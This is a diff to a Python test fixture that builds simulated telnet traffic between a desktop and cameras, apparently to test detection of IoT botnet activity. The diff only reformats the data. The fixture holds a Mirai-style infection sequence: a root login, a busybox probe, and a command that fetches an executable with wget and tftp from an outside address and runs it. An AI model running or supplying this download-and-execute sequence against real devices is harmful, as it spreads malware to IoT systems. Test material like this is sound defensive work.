@@ -32,8 +32,17 @@ def frames() -> Frames:
         (True, b"enable\r\nsystem\r\nshell\r\nsh\r\n"),
         (True, b"/bin/busybox LZRD\r\n"),
         (False, b"LZRD: applet not found\r\n# "),
-        (True, b"cd /tmp; wget http://me:word@203.0.113.9/bins/l.mips -O .l; tftp -g -r l.mips 203.0.113.9; chmod 777 .l; ./.l tel\r\n"),
+        (
+            True,
+            b"cd /tmp; wget http://me:word@203.0.113.9/bins/l.mips -O .l; tftp -g -r l.mips 203.0.113.9; chmod 777 .l; ./.l tel\r\n",
+        ),
     ]
     yield from conversation((DESKTOP, "10.20.30.66", 49181), (CAMERA, "10.20.30.80", 23), parts)
-    parts = [(False, b"cam login: "), (True, b"root\r\n"), (False, b"Password: "), (True, b"other-secret\r\n"), (False, b"\r\n~ # ")]
+    parts = [
+        (False, b"cam login: "),
+        (True, b"root\r\n"),
+        (False, b"Password: "),
+        (True, b"other-secret\r\n"),
+        (False, b"\r\n~ # "),
+    ]
     yield from conversation((DESKTOP, "10.20.30.66", 49182), (CAMERA, "10.20.30.81", 23), parts)
